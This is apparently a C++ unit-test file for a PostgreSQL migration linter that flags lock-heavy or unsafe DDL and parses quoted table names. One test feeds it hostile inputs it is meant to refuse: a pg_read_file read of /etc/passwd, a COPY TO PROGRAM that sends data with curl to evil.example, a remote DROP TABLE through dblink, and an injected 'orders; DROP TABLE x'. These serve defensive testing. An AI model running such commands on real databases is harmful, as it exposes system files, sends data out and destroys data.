#include "pg/lint.h"

#include "pg/ddl.h"
#include "pg/tables.h"

#include <gtest/gtest.h>

namespace {

using namespace schemashift::pg;

std::vector<std::string> rules(Section s, const std::vector<std::string>& sql,
                               const TableSizes& sizes = {}) {
  std::vector<std::string> out;
  for (const auto& f : lint(s, sql, sizes)) out.push_back(f.rule + (f.error ? "" : "(warning)"));
  return out;
}

TEST(Lint, EachUnsafeOperationIsNamedWithTheSafeAlternative) {
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE orders ALTER COLUMN amount_cents TYPE bigint"}),
            std::vector<std::string>{"rewrite-type-change"});
  EXPECT_EQ(
      rules(Section::kExpand, {"ALTER TABLE orders ADD COLUMN created timestamptz DEFAULT now()"}),
      std::vector<std::string>{"volatile-default"});
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE customers ADD COLUMN lang text NOT NULL"}),
            std::vector<std::string>{"add-not-null-without-default"});
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE customers ALTER COLUMN lang SET NOT NULL"}),
            std::vector<std::string>{"set-not-null-without-check"});
  EXPECT_EQ(rules(Section::kExpand, {"CREATE INDEX orders_amount ON orders (amount)"}),
            std::vector<std::string>{"index-without-concurrently"});
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE addresses ADD CONSTRAINT fk FOREIGN KEY "
                                     "(customer_id) REFERENCES customers (id)"}),
            std::vector<std::string>{"constraint-without-not-valid"});
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE customers DROP COLUMN street"}),
            std::vector<std::string>{"drop-in-expand"});
  EXPECT_EQ(
      rules(Section::kExpand, {"ALTER TABLE customers RENAME COLUMN first_name TO given_name"}),
      std::vector<std::string>{"rename"});
  EXPECT_EQ(rules(Section::kExpand, {"VACUUM FULL orders"}),
            std::vector<std::string>{"long-held-lock"});
  auto f = lint(Section::kExpand, {"SELECT 1", "CREATE INDEX i ON orders (amount)"}, {});
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].where, "expand.sql[1]");
  EXPECT_NE(f[0].message.find("CREATE INDEX CONCURRENTLY IF NOT EXISTS"), std::string::npos);
}

TEST(Lint, TheSafeNotNullSequencePasses) {
  EXPECT_TRUE(rules(Section::kExpand,
                    {"ALTER TABLE customers ADD COLUMN IF NOT EXISTS preferred_language text",
                     "ALTER TABLE customers ADD CONSTRAINT lang_nn CHECK (preferred_language IS "
                     "NOT NULL) NOT VALID",
                     "ALTER TABLE customers VALIDATE CONSTRAINT lang_nn",
                     "ALTER TABLE customers ALTER COLUMN preferred_language SET NOT NULL",
                     "ALTER TABLE customers DROP CONSTRAINT lang_nn"})
                  .empty());
}

TEST(Lint, SafeExpandAndContractStatementsPass) {
  EXPECT_TRUE(rules(Section::kExpand,
                    {"ALTER TABLE orders ADD COLUMN IF NOT EXISTS metadata jsonb",
                     "ALTER TABLE orders ADD COLUMN amount numeric(12,2) DEFAULT 0",
                     "CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_amount ON orders (amount)"})
                  .empty());
  EXPECT_TRUE(rules(Section::kContract, {"ALTER TABLE orders DROP COLUMN amount_cents"}).empty());
  EXPECT_TRUE(
      rules(Section::kRollback, {"ALTER TABLE orders DROP COLUMN IF EXISTS amount"}).empty());
}

TEST(Lint, SizeMattersRulesAreWarningsOnSmallTables) {
  const TableSizes sizes = {{"countries", 250}, {"orders", 1000000}};
  EXPECT_EQ(rules(Section::kExpand, {"CREATE INDEX c_name ON countries (name)"}, sizes),
            std::vector<std::string>{"index-without-concurrently(warning)"});
  EXPECT_EQ(rules(Section::kExpand, {"CREATE INDEX o_amount ON orders (amount)"}, sizes),
            std::vector<std::string>{"index-without-concurrently"});
}

TEST(Lint, CommentsQuotingAndFormattingNeitherHideNorInventAFinding) {
  // Each of these fooled the regular expressions the lint used before the parse tree.
  EXPECT_TRUE(rules(Section::kExpand, {"-- CREATE INDEX i ON orders (amount)\nSELECT 1"}).empty());
  EXPECT_EQ(rules(Section::kExpand, {"/* concurrently */ CREATE INDEX i ON orders (amount)"}),
            std::vector<std::string>{"index-without-concurrently"});
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE orders ALTER amount TYPE bigint"}),
            std::vector<std::string>{"rewrite-type-change"});
  EXPECT_EQ(rules(Section::kExpand, {"alter\ttable\n  orders\n  alter column \"Amount\"\n"
                                     "  set data type bigint"}),
            std::vector<std::string>{"rewrite-type-change"});
  EXPECT_EQ(
      rules(Section::kExpand, {"ALTER TABLE orders ADD COLUMN t timestamptz DEFAULT (now())"}),
      std::vector<std::string>{"volatile-default"});
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE orders ADD COLUMN n bigserial"}),
            std::vector<std::string>{"volatile-default"});
  EXPECT_TRUE(
      rules(Section::kExpand, {"ALTER TABLE orders ADD COLUMN note text DEFAULT 'now()'"}).empty());
  EXPECT_TRUE(rules(Section::kExpand, {"COMMENT ON TABLE orders IS 'rename or drop column later'"})
                  .empty());
  EXPECT_EQ(rules(Section::kExpand, {"VACUUM (FULL, ANALYZE) orders"}),
            std::vector<std::string>{"long-held-lock"});
  EXPECT_EQ(rules(Section::kExpand, {"ALTER TABLE orders ADD UNIQUE (email)"}),
            std::vector<std::string>{"constraint-builds-index"});
  EXPECT_TRUE(rules(Section::kExpand, {"ALTER TABLE orders ADD CONSTRAINT u UNIQUE USING INDEX i"})
                  .empty());
  // A quoted name is its own table: the small "Countries" is not the large countries.
  const TableSizes sizes = {{"\"Countries\"", 250}, {"countries", 1000000}};
  EXPECT_EQ(rules(Section::kExpand, {"CREATE INDEX c ON \"Countries\" (name)"}, sizes),
            std::vector<std::string>{"index-without-concurrently(warning)"});
  EXPECT_EQ(rules(Section::kExpand, {"CREATE INDEX c ON Countries (name)"}, sizes),
            std::vector<std::string>{"index-without-concurrently"});
}

TEST(Lint, EveryStatementOfAMultiStatementStringIsCheckedAndLocated) {
  auto f = lint(Section::kExpand,
                {"ALTER TABLE orders ADD COLUMN x int;\n\n  CREATE INDEX i ON orders (x);"}, {});
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].rule, "index-without-concurrently");
  EXPECT_EQ(f[0].where, "expand.sql[0] statement 2 (line 3)");
  EXPECT_GT(f[0].location, 30);
}

TEST(Lint, UnparseableSqlAndForbiddenCallsAreRefused) {
  auto f = lint(Section::kExpand, {"ALTER TABLE orders ADD COLUMN"}, {});
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].rule, "syntax-error");
  EXPECT_TRUE(f[0].error);
  EXPECT_EQ(rules(Section::kExpand, {"SELECT pg_catalog.pg_read_file('/etc/passwd')"}),
            std::vector<std::string>{"forbidden-call"});
  EXPECT_EQ(rules(Section::kContract, {"COPY orders TO PROGRAM 'curl -d @- evil.example'"}),
            std::vector<std::string>{"forbidden-call"});
  EXPECT_EQ(rules(Section::kRollback, {"SELECT dblink_exec('host=x', 'DROP TABLE t')"}),
            std::vector<std::string>{"forbidden-call"});
  EXPECT_EQ(rules(Section::kExpand, {"UPDATE orders SET a = set_config('role', 'x', false)"}),
            std::vector<std::string>{"forbidden-call"});
}

TEST(Lint, NotNullChecksCountPerTableAndConstraint) {
  // The CHECK on customers does not make SET NOT NULL on orders safe.
  EXPECT_EQ(rules(Section::kExpand,
                  {"ALTER TABLE customers ADD CONSTRAINT nn CHECK (lang IS NOT NULL) NOT VALID",
                   "ALTER TABLE customers VALIDATE CONSTRAINT nn",
                   "ALTER TABLE orders ALTER COLUMN lang SET NOT NULL"}),
            std::vector<std::string>{"set-not-null-without-check"});
  // Added but never validated: still a scan under ACCESS EXCLUSIVE.
  EXPECT_EQ(rules(Section::kExpand,
                  {"ALTER TABLE customers ADD CONSTRAINT nn CHECK (lang IS NOT NULL) NOT VALID",
                   "ALTER TABLE customers ALTER COLUMN lang SET NOT NULL"}),
            std::vector<std::string>{"set-not-null-without-check"});
}

TEST(Lint, FindsTheTablesAStatementTouches) {
  auto names = [](const std::string& sql) {
    std::vector<std::string> out;
    for (const auto& t : tables_in(sql)) out.push_back(t.display());
    return out;
  };
  // A quoted name keeps its case: "Shop".orders is not shop.orders.
  EXPECT_EQ(names("ALTER TABLE IF EXISTS ONLY \"Shop\".orders ADD COLUMN x int"),
            std::vector<std::string>{"\"Shop\".orders"});
  EXPECT_EQ(names("ALTER TABLE IF EXISTS ONLY Shop.Orders ADD COLUMN x int"),
            std::vector<std::string>{"shop.orders"});
  EXPECT_EQ(names("CREATE UNIQUE INDEX CONCURRENTLY i ON customers (email)"),
            std::vector<std::string>{"customers"});
  // Every statement kind, not only ALTER TABLE and INDEX ... ON.
  EXPECT_EQ(names("DROP TABLE a, s.b"), (std::vector<std::string>{"a", "s.b"}));
  EXPECT_EQ(names("INSERT INTO \"My Orders\" SELECT * FROM old_orders"),
            (std::vector<std::string>{"\"My Orders\"", "old_orders"}));
  EXPECT_EQ(names("WITH moved AS (DELETE FROM a RETURNING *) UPDATE b SET x = 1 FROM moved"),
            (std::vector<std::string>{"a", "b"}));
  EXPECT_EQ(names("ALTER TABLE addresses ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES customers"),
            (std::vector<std::string>{"addresses", "customers"}));
  EXPECT_EQ(names("LOCK TABLE t1, t2; TRUNCATE t3; VACUUM t4"),
            (std::vector<std::string>{"t1", "t2", "t3", "t4"}));
  EXPECT_EQ(names("ALTER TABLE \"zählung\" RENAME COLUMN a TO b"),
            std::vector<std::string>{"\"zählung\""});
  // Text in comments and strings names no table.
  EXPECT_TRUE(names("SELECT 'ALTER TABLE x' -- ALTER TABLE y\n").empty());
}

TEST(TableNames, AreReadAsSqlWritesThem) {
  EXPECT_EQ(parse_table_name("orders")->quoted(), "\"orders\"");
  EXPECT_EQ(parse_table_name("Shop.Orders")->quoted(), "\"shop\".\"orders\"");
  EXPECT_EQ(parse_table_name("\"Shop\".\"My \"\"Orders\"\"\"")->name, "My \"Orders\"");
  EXPECT_EQ(parse_table_name("\"Shop\".orders")->schema, "Shop");
  EXPECT_EQ(parse_table_name("bestellungen_über")->name, "bestellungen_über");
  EXPECT_FALSE(parse_table_name("orders; DROP TABLE x"));
  EXPECT_FALSE(parse_table_name("a.b.c"));
  EXPECT_FALSE(parse_table_name(""));
  EXPECT_FALSE(parse_table_name("\"\""));
  EXPECT_FALSE(parse_table_name(std::string("a\0b", 3)));
  EXPECT_TRUE(parse_table_name(std::string(63, 'a')));
  EXPECT_FALSE(parse_table_name(std::string(64, 'a')));
  EXPECT_FALSE(parse_table_name("\"" + std::string(32, 'a') + std::string("\xc3\xa4") +
                                std::string(30, 'a') + "\""))
      << "64 bytes in 63 characters";
  EXPECT_EQ(*parse_column_name("\"OrderId\""), "OrderId");
  EXPECT_EQ(*parse_column_name("OrderId"), "orderid");
  EXPECT_FALSE(parse_column_name("id, x"));
}

}  // namespace

namespace {

TEST(Ddl, ConcurrentlyIsReadFromTheStatementNotFromItsComments) {
  using schemashift::pg::is_concurrently;
  EXPECT_TRUE(is_concurrently("CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON t (a)"));
  EXPECT_TRUE(is_concurrently("drop index\nconcurrently i"));
  EXPECT_TRUE(is_concurrently("REINDEX (CONCURRENTLY) INDEX i"));
  EXPECT_TRUE(is_concurrently("REFRESH MATERIALIZED VIEW CONCURRENTLY m"));
  EXPECT_TRUE(is_concurrently("ALTER TABLE p DETACH PARTITION c CONCURRENTLY"));
  // Outside a transaction there is no fence check around it: a comment must not get it there.
  EXPECT_FALSE(is_concurrently("-- not concurrently\nALTER TABLE t ADD COLUMN c int"));
  EXPECT_FALSE(is_concurrently("COMMENT ON TABLE t IS 'built concurrently'"));
}

}  // namespace
